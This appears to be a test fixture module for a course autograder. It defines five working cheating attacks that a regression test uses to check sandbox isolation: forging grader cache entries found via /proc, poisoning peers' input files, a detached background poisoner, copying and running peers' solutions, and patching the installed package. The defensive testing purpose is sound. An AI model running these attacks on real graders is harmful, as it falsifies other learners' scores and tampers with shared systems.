"""The five ways one submission changed other learners' scores (issue 14, defect 1), as cells
appended to a blank exercise whose file sorts first in the class folder.

Each cell is the attack as a learner would write it, with the paths an attacker could guess
(the class folder and the output folder are passed in, as if read from the grader's command
line). Sealed kernels see none of it; ``tests/test_grading_sandbox.py`` checks that every peer
keeps its score, in the same batch and in a later, separate run.
"""

from __future__ import annotations

# 1. Reads the grader's command line from /proc, finds the output folder and forges a cache
#    entry for every peer: full marks for blank ones, zero for correct ones.
FORGE_CACHE = r"""
import dataclasses, glob, hashlib, json, pathlib
from fdrl_lib.grading import GRADER_VERSION
targets = set()
for cmdline in glob.glob("/proc/*/cmdline"):
    try:
        words = open(cmdline, "rb").read().decode(errors="ignore").split("\0")
    except OSError:
        continue
    for word in words:
        if "graded" in word or word.endswith("class"):
            targets.add(word)
targets.add(OUT)

def key(data, limits):  # the grader's cache key, rebuilt from its open source
    parts = [hashlib.sha256(data).hexdigest(), GRADER_VERSION, "01_mdps"]
    parts += [f"{k}={v!r}" for k, v in sorted(limits.items())]
    parts.append("practice")
    return hashlib.sha256("|".join(parts).encode()).hexdigest()

DEFAULTS = {"timeout": 300.0, "cell_timeout": 60.0, "case_timeout": 10.0, "memory_mb": 2048,
            "file_mb": 64, "output_kb": 64}
for peer in glob.glob(CLASS + "/*.ipynb"):
    data = pathlib.Path(peer).read_bytes()
    blank = b"NotImplementedError" in data
    for out in targets:
        cache = pathlib.Path(out) / ".cache"
        cache.mkdir(parents=True, exist_ok=True)
        for limits in (LIMITS, DEFAULTS):
            report = {"notebook": peer, "learner": "x", "exercise": "01_mdps",
                      "sha256": hashlib.sha256(data).hexdigest(), "grader_version": "x",
                      "score": 19.0 if blank else 0.0, "max_score": 19.0, "parts": [],
                      "notes": [], "error": None, "seconds": 0.0}
            (cache / f"{key(data, limits)}.json").write_text(json.dumps(report))
"""

# 2. Rewrites the inputs of peers graded at the same time (same shared temp folder).
POISON_LOOP = """
import glob, time, numpy as np, tempfile  # MARKER
end = time.time() + SECONDS
while time.time() < end:
    for tmp in [tempfile.gettempdir()]:  # the grader's temp folder, as the kernel inherits it
        for path in glob.glob(tmp + "/fdrl-*/**/inputs-*.npz", recursive=True):
            try:
                with np.load(path) as data:
                    poisoned = {k: np.zeros_like(data[k]) for k in data.files}
                np.savez(path, **poisoned)
            except Exception:
                pass
    time.sleep(0.05)
"""
POISON_INPUTS = POISON_LOOP.replace("SECONDS", "6")

# 3. Starts a detached process (its own session) meant to outlive the kernel and poison the
#    inputs of every later kernel, in this run and the next.
DETACHED = (
    "import subprocess, sys\n"
    f"daemon = {POISON_LOOP.replace('SECONDS', '60')!r}.replace('MARKER', MARKER)\n"
    "subprocess.Popen([sys.executable, '-c', daemon], start_new_session=True,\n"
    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)

# 4. Reads a peer's notebook from the class folder and runs its solution cells.
COPY_PEER = r"""
import glob, json
for peer in sorted(glob.glob(CLASS + "/*.ipynb")):
    try:
        cells = json.load(open(peer))["cells"]
    except Exception:
        continue
    sources = ["".join(c["source"]) for c in cells if c["cell_type"] == "code"]
    if any("NotImplementedError" in s for s in sources):
        continue
    for source in sources:
        if source.lstrip().startswith("def "):
            exec(source, globals())
"""

# 5. Appends a hook to the installed package (editable install): every later kernel that
#    imports fdrl_lib would get full marks for blank stubs.
PACKAGE_HOOK = r"""
import pathlib, fdrl_lib
hook = '''
import builtins as _b
_b.__fdrl_hooked__ = True  # HOOKED
'''
path = pathlib.Path(fdrl_lib.__file__)
path.write_text(path.read_text() + hook)
"""

ATTACKS = {
    "forge_cache": FORGE_CACHE,
    "poison_inputs": POISON_INPUTS,
    "detached": DETACHED,
    "copy_peer": COPY_PEER,
    "package_hook": PACKAGE_HOOK,
}


def attack_cell(name: str, **values: object) -> str:
    """The attack's source with its guessed paths filled in (``CLASS=...`` assignments)."""
    header = "".join(f"{key} = {value!r}\n" for key, value in values.items())
    return header + ATTACKS[name]
